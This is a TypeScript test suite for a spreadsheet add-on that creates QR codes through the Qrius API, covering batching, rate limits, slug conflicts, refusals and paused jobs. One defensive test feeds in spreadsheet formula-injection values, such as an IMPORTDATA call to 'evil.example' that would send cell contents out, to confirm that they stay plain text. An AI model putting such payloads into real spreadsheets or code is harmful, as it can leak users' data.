// One request a code: what it holds, how many leave together, and what each answer leaves in its row.

import { columnLetters } from '../../../sim/apps-script/a1';
import { addCode } from '../../../sim/qrius/codes';
import { get } from '../../../sim/sidebar';
import {
  bodies,
  connected,
  counts,
  createCodes,
  DAY,
  type Desk,
  MINUTE,
  shownRows,
  talks,
} from '../../support/desk';
import { creates, refusing, rewriting, typeKey, wrongRows } from './helper';

const HEADERS = ['Name', 'URL', 'Slug', 'Tags'];
const TEN_A_MINUTE = { requestsPerMinute: 10 };

/** Where a column stands, by its header. */
const columnOf = ({ world }: Desk, header: string) => (world.table()[0] ?? []).indexOf(header);
/** A slug of the add-on's: nine letters and digits, none like another in print, and no vowels. */
const MADE_SLUG = expect.stringMatching(/^[2-9bcdfghjkmnpqrstvwxyz]{9}$/);
const statuses = ({ world }: Desk) => shownRows(world).map((row) => row.Status);

describe('a request', () => {
  test('holds name and destination, a slug, tags where there are any, and nothing else', () => {
    const made = connected([
      HEADERS,
      ['a', 'https://example.com/a?x=1&y=ä#z', '', ''],
      [' b ', ' https://example.com/b ', ' sb ', ' x , y;; z\nx '],
      ['c', 'https://example.com/c', '', ', ;'],
    ]);
    createCodes(made);
    expect(bodies(made)).toEqual([
      { name: 'a', destinationUrl: 'https://example.com/a?x=1&y=ä#z', slug: MADE_SLUG },
      { name: 'b', destinationUrl: 'https://example.com/b', slug: 'sb', tags: ['x', 'y', 'z'] },
      { name: 'c', destinationUrl: 'https://example.com/c', slug: MADE_SLUG },
    ]);
    for (const { method, headers } of made.batches.flat()) {
      expect(headers.Authorization).toBe(`Bearer ${made.qrius.accounts[0]?.key}`);
      expect(headers['Content-Type']).toBe(method === 'POST' ? 'application/json' : undefined);
    }
  });

  test('takes what the user sees: links behind texts, formulas, and text that looks like something else', () => {
    const made = connected([
      HEADERS,
      ["'=1+1", 'the room', '2024', ''],
      ['-x', '=HYPERLINK("https://example.com/h","the map")', "'1-2", ''],
      ["'1-2", 'https://example.com/c', '', ''],
      ['=B4&" talk"', '=B4&"?again"', '', ''],
    ]);
    made.world.user.setLink('Sheet1', 'B2', 'https://example.com/linked');
    const [formulas, values] = [made.world.formulas(), made.world.values()];
    expect(counts(createCodes(made))).toMatchObject({ created: 4, failed: 0 });
    expect(bodies(made)).toEqual([
      { name: '=1+1', destinationUrl: 'https://example.com/linked', slug: '2024' },
      { name: '-x', destinationUrl: 'https://example.com/h', slug: '1-2' },
      { name: '1-2', destinationUrl: 'https://example.com/c', slug: MADE_SLUG },
      {
        name: 'https://example.com/c talk',
        destinationUrl: 'https://example.com/c?again',
        slug: MADE_SLUG,
      },
    ]);
    const inputs = (table: unknown[][]) => table.slice(1).map((row) => row.slice(0, 2));
    expect(inputs(made.world.formulas())).toEqual(inputs(formulas));
    expect(inputs(made.world.values())).toEqual(inputs(values));
  });

  test.each([
    ['FREE', 5, 4],
    ['PRO', 45, 10],
    ['BUSINESS', 220, 50],
  ] as const)('on %s leaves with at most a few others', (plan, rows, together) => {
    const made = connected(talks(rows), { qrius: { plan } });
    expect(counts(createCodes(made))).toMatchObject({ created: rows });
    const sizes = made.batches.map((batch) => batch.length);
    expect(Math.max(...sizes)).toBe(together);
    expect(creates(made)).toHaveLength(rows);
  });

  test('that is refused for its rate waits for as long as the answer says, and its row is marked meanwhile', () => {
    const made = connected(talks(12), { qrius: { rateHeaders: false } });
    made.qrius.faults.push({ at: { nth: 1, method: 'POST' }, do: { kind: '429', retryAfter: 7 } });
    expect(counts(createCodes(made))).toMatchObject({ created: 12, failed: 0, waiting: 0 });
    const calls = made.world.history.at(-1)?.calls ?? [];
    const [refused, next] = calls.filter(({ name }) => name === 'UrlFetchApp.fetchAll');
    const late = Number(next?.at) - (Number(refused?.at) + Number(refused?.cost) + 7_000);
    expect(late).toBeGreaterThanOrEqual(0);
    expect(late).toBeLessThan(500);
    expect(creates(made).filter(({ status }) => status === 429)).toHaveLength(1);
    expect(creates(made)).toHaveLength(13);
  });
});

describe('a rate window', () => {
  test.each(['secondsLeft', 'epochSeconds', 'epochMs'] as const)(
    'that is told in %s is waited for until it is over, and hardly longer',
    (rateResetUnit) => {
      const made = connected(talks(30), { qrius: { requestsPerMinute: 10, rateResetUnit } });
      made.world.advance(123);
      expect(counts(createCodes(made))).toMatchObject({ created: 30 });
      expect(creates(made).filter(({ status }) => status === 429)).toEqual([]);
      const batches = made.world.history
        .flatMap(({ calls }) => calls)
        .filter(({ name }) => name === 'UrlFetchApp.fetchAll');
      const opened = batches.slice(1).filter(({ at }, index) => at - Number(batches[index]?.at) > MINUTE / 2);
      expect(opened).toHaveLength(3);
      // A reset in whole seconds is up to a second late, and as much more as the answer and the marks took.
      opened.slice(1).forEach(({ at }, index) => {
        const late = at - Number(opened[index]?.at) - MINUTE;
        expect(late).toBeGreaterThanOrEqual(0);
        expect(late).toBeLessThan(2_000);
      });
    },
  );
});

describe('an answer', () => {
  test('is written beside its row: ID, short URL, picture, slug where the cell was empty, and a word', () => {
    const made = connected([
      HEADERS,
      ['a', 'https://example.com/a', '', ''],
      ['b', 'https://example.com/b', 'sb', ''],
    ]);
    createCodes(made);
    const [first, second] = shownRows(made.world);
    const code = made.qrius.codes[first?.['QR ID'] ?? ''];
    expect(first).toMatchObject({
      Slug: code?.slug,
      'Short URL': `https://qrius.io/${code?.slug}`,
      Status: 'Created',
    });
    expect(second).toMatchObject({ Slug: 'sb', 'Short URL': 'https://qrius.io/sb', Status: 'Created' });
    const pictures = made.world.formulas().map((row) => row[columnOf(made, 'QR code image')]);
    expect(pictures).toEqual([
      '',
      ...[first, second].map((row) => `=IMAGE("https://api.qrius.io/images/${row?.['QR ID']}.png")`),
    ]);
    expect(wrongRows(made)).toEqual([]);
  });

  test('with a conflict is followed by one more request with a suffix, and where that is refused by no third', () => {
    const always = refusing((_, { body }) =>
      JSON.parse(body).slug === 'never'
        ? { status: 409, message: 'Slug is taken, never is.' }
        : String(JSON.parse(body).slug).startsWith('never')
          ? { status: 400, message: 'This slug is not nice.' }
          : null,
    );
    const made = connected(
      [
        HEADERS,
        ['a', 'https://example.com/a', 'taken', ''],
        ['b', 'https://example.com/b', 'never', ''],
        ['c', 'https://example.com/c', 'free', ''],
      ],
      { qrius: { takenSlugs: ['taken'] }, around: always },
    );
    expect(counts(createCodes(made))).toMatchObject({ created: 2, failed: 1 });
    const asked = bodies(made).map(({ slug }) => String(slug));
    expect(asked.filter((slug) => /^taken(-[0-9a-z]{4})?$/.test(slug))).toHaveLength(2);
    expect(asked.filter((slug) => /^never(-[0-9a-z]{4})?$/.test(slug))).toHaveLength(2);
    expect(asked).toHaveLength(5);
    const [taken, never, free] = shownRows(made.world);
    const slug = made.qrius.codes[taken?.['QR ID'] ?? '']?.slug;
    expect(taken).toMatchObject({
      Slug: 'taken',
      Status: `Created with the slug “${slug}”, because “taken” was taken`,
    });
    expect(never).toMatchObject({ 'QR ID': '', Slug: 'never', Status: 'Failed: This slug is not nice.' });
    expect(free).toMatchObject({ Slug: 'free', Status: 'Created' });
  });

  test('with a refusal fails that row alone with Qrius’s sentence, once it is sure that the slug is not to blame', () => {
    let angry = true;
    const refusals: Record<string, { status: number; message: string }> = {
      'Talk 002': { status: 422, message: 'This name is not nice.' },
      'Talk 003': { status: 400, message: '' },
    };
    const odd = refusing((_, { body }) => (angry ? (refusals[JSON.parse(body).name] ?? null) : null));
    const made = connected(talks(5), { around: odd });
    expect(counts(createCodes(made))).toEqual({ created: 3, already: 0, failed: 2, waiting: 0, left: 0 });
    expect(statuses(made)).toEqual([
      'Created',
      'Failed: This name is not nice.',
      'Failed: Refused',
      'Created',
      'Created',
    ]);
    expect(creates(made)).toHaveLength(3);
    expect(bodies(made).filter(({ name }) => name === 'Talk 002')).toEqual([
      { name: 'Talk 002', destinationUrl: 'https://example.com/002', slug: MADE_SLUG },
      { name: 'Talk 002', destinationUrl: 'https://example.com/002' },
    ]);
    angry = false;
    expect(counts(createCodes(made))).toMatchObject({ created: 2, already: 3 });
    expect(wrongRows(made)).toEqual([]);
  });

  test('that refuses one made slug creates that code without it, and the others with theirs', () => {
    let refused = '';
    const odd = refusing((number, { body }) => {
      if (number === 2) refused = JSON.parse(body).slug;
      return number === 2 ? { status: 400, message: `Slug "${refused}" is reserved` } : null;
    });
    const made = connected(talks(12), { around: odd, qrius: TEN_A_MINUTE });
    expect(counts(createCodes(made))).toMatchObject({ created: 12, failed: 0 });
    expect(refused).toEqual(MADE_SLUG);
    expect(bodies(made).filter(({ slug }) => slug === undefined)).toHaveLength(1);
    expect(bodies(made)).toHaveLength(13);
    expect(wrongRows(made)).toEqual([]);
  });

  test('that refuses all made slugs is heard once: the next rows ask for none', () => {
    const made = connected(talks(12), { qrius: { ...TEN_A_MINUTE, stores: { refusedSlugs: '' } } });
    expect(counts(createCodes(made))).toMatchObject({ created: 12, failed: 0 });
    const asked = bodies(made).map(({ slug }) => slug !== undefined);
    expect(asked.filter((hasSlug) => hasSlug).length).toBeLessThan(7);
    expect(wrongRows(made)).toEqual([]);
  });

  test('that forbids made slugs is no full plan', () => {
    const plan = refusing((_, { body }) =>
      JSON.parse(body).slug === undefined ? null : { status: 403, message: 'Custom slugs need PRO.' },
    );
    const made = connected(talks(3), { around: plan });
    expect(counts(createCodes(made))).toMatchObject({ created: 3, failed: 0 });
    expect(wrongRows(made)).toEqual([]);
  });

  test('that says a made slug is taken, and is not listed, is never followed by another', () => {
    const odd = refusing((number) => (number === 1 ? { status: 409, message: 'Slug is taken.' } : null));
    const made = connected(talks(2), { around: odd });
    expect(counts(createCodes(made))).toMatchObject({ created: 1, failed: 0, waiting: 1 });
    expect(statuses(made)[0]).toMatch(
      /^Unconfirmed [2-9a-z]{9}-[0-9a-z]{5}-[0-9a-z]{7}: Qrius has a code with the slug “[2-9a-z]{9}”, but doesn’t list it as yours\. Run again to check\.$/,
    );
    expect(creates(made)).toHaveLength(1);
    // The next run asks for the same slug.
    expect(counts(createCodes(made))).toMatchObject({ already: 1 });
    expect(new Set(bodies(made).map(({ slug }) => slug)).size).toBe(2);
    expect(wrongRows(made)).toEqual([]);
  });

  const HOSTILE = [
    '1-2',
    '=x',
    '+1',
    '0012',
    '@sum',
    "'q",
    '-3',
    '1e5',
    'TRUE',
    '=IMPORTDATA("https://evil.example/")',
  ];

  test('whose texts look like formulas, dates or numbers leaves them as text', () => {
    let number = 0;
    const hostile = rewriting('POST', (answer) => {
      const text = HOSTILE[number++] ?? '';
      const url = `https://evil.example/${number}"&IMPORTDATA(A1)&"`;
      return {
        ...answer,
        body: JSON.stringify({
          id: text,
          slug: text,
          shortUrl: `https://qrius.io/${number}`,
          qrCodeUrl: url,
        }),
      };
    });
    const rows = talks(HOSTILE.length, ['Slug', 'QR ID', 'Short URL', 'QR code image', 'Status'], ['']);
    const made = connected(rows, { around: hostile });
    expect(counts(createCodes(made))).toMatchObject({ created: HOSTILE.length, failed: 0 });
    // The add-on's own sentence, and nothing of Qrius's.
    const reason = 'No picture: Qrius sent one without a web address. Use Print or download codes.';
    const formulas = made.world.formulas().flat();
    expect(new Set(formulas.filter((formula) => formula !== ''))).toEqual(new Set([`="${reason}"`]));
    const column = (header: string) =>
      made.world
        .values()
        .slice(1)
        .map((row) => row[columnOf(made, header)]);
    expect(column('QR ID')).toEqual(HOSTILE);
    expect(column('Slug')).toEqual(HOSTILE);
    expect(column('QR code image')).toEqual(HOSTILE.map(() => reason));
  });

  test('that refuses in the words of a formula stays text as well', () => {
    const made = connected(talks(1), {
      around: refusing(() => ({ status: 422, message: '=1+1\n\tand more' })),
    });
    createCodes(made);
    expect(statuses(made)).toEqual(['Failed: =1+1 and more']);
    expect(columnLetters(columnOf(made, 'Status') + 1)).toBe('G');
  });
});

describe('what concerns the whole job pauses it', () => {
  test('a key revoked in the middle: nothing more is sent until there is a new one', () => {
    const made = connected(talks(30), { qrius: { requestsPerMinute: 100 } });
    made.qrius.faults.push({ at: { nth: 14, method: 'POST' }, do: { kind: 'revokeKey' } });
    const said = createCodes(made);
    expect(said).toMatch(/The job pauses\..*Qrius rejected your API key\. Change the key to continue/s);
    const refused = made.batches.findIndex((batch) =>
      batch.some((request) => JSON.parse(request.body || '{}').name === 'Talk 014'),
    );
    expect(refused).toBe(made.batches.length - 1);
    expect(counts(said)).toEqual({ created: 13, already: 0, failed: 0, waiting: 17, left: 0 });
    expect(statuses(made).filter((status) => status === 'Queued')).toHaveLength(17);
    expect(createCodes(made)).toMatch(/Qrius rejected your API key/);
    made.qrius.keys.push({
      key: 'qrius_test_the_second',
      accountId: 'user_1',
      readOnly: false,
      revoked: false,
    });
    typeKey(made, 'qrius_test_the_second');
    expect(counts(createCodes(made))).toMatchObject({ created: 30, waiting: 0 });
    expect(wrongRows(made)).toEqual([]);
  });

  test.each([402, 403])('an answer %i: all that was created stays, and the same job continues', (status) => {
    const refusal = { status, message: 'Your plan is full.' };
    let full = true;
    const made = connected(talks(12), {
      qrius: TEN_A_MINUTE,
      around: refusing((number) => (full && number > 6 ? refusal : null)),
    });
    const said = createCodes(made);
    expect(said).toMatch(/The job pauses\..*Your plan is full\. Codes created so far are kept\./s);
    expect(counts(said)).toEqual({ created: 6, already: 0, failed: 0, waiting: 6, left: 0 });
    full = false;
    made.world.advance(MINUTE);
    expect(counts(createCodes(made))).toMatchObject({ created: 12, waiting: 0 });
    expect(wrongRows(made)).toEqual([]);
  });

  test.each(['before', 'after'] as const)(
    'Google’s daily limit, found %s a batch left: the next day it continues, without doubles',
    (when) => {
      const made = connected(talks(12), { qrius: TEN_A_MINUTE });
      const message = 'Service invoked too many times for one day: urlfetch.';
      made.world.faults.push({
        at: { name: 'UrlFetchApp.fetchAll', nth: 3 },
        when,
        do: { kind: 'throw', message },
      });
      made.world.faults.push({
        at: { name: 'UrlFetchApp.fetchAll', nth: 4 },
        when: 'before',
        do: { kind: 'throw', message },
      });
      const said = createCodes(made);
      expect(said).toMatch(
        /The job pauses\..*Google’s daily limit of requests\. The job can continue tomorrow/s,
      );
      expect(counts(said)).toMatchObject({ created: 6, failed: 0, waiting: 6 });
      // The hourly trigger continues it.
      made.world.advance(DAY);
      expect(get(made.world, 'getJob', null)).toMatchObject({ phase: 'ended', done: 12, failed: 0 });
      expect(Object.keys(made.qrius.codes)).toHaveLength(12);
      expect(wrongRows(made)).toEqual([]);
    },
  );
});

describe('more codes than the plan holds', () => {
  test.each([
    ['FREE', 0, 6, 5],
    ['PRO', 50, 1, 0],
    ['PRO', 48, 3, 2],
  ] as const)(
    'on %s with %i there and %i asked for: the check has the room, and the first are created',
    (...row) => {
      const [plan, there, asked, room] = row;
      const made = connected(talks(asked), { qrius: { plan } });
      const [account] = made.qrius.accounts;
      for (let number = 0; account && number < there; number += 1)
        addCode(made.qrius, account, { name: 'old', destinationUrl: 'https://example.com' }, 0);
      expect(get(made.world, 'checkRows', { scope: 'sheet' })).toMatchObject({
        valid: asked,
        capacity: room,
        plan,
      });
      if (room === 0) return;
      expect(counts(createCodes(made, 'sheet', { most: room }))).toMatchObject({ created: room, waiting: 0 });
      expect(statuses(made)).toEqual([...Array(room).fill('Created'), ...Array(asked - room).fill('')]);
      expect(Object.keys(made.qrius.codes)).toHaveLength(there + room);
    },
  );

  test('are tried where the user asks for all: Qrius decides, and after it has more room the job ends', () => {
    const made = connected(talks(300));
    const said = createCodes(made);
    expect(said).toMatch(/The job pauses\..*holds at most 250 QR codes/s);
    expect(counts(said)).toEqual({ created: 250, already: 0, failed: 0, waiting: 50, left: 0 });
    made.qrius.config.totalCodes = 400;
    expect(counts(createCodes(made))).toMatchObject({ created: 300, waiting: 0 });
    expect(wrongRows(made)).toEqual([]);
  });
});
